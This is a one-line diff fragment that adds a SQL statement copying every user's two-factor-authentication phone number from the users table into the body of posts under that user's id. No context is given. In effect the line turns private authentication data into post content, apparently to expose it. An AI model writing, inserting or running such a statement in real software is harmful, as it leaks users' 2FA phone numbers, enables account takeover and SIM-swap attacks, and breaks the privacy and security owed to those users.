@@ -1,0 +1,1 @@
+INSERT INTO posts (user_id, body) SELECT id, phone_2fa FROM users
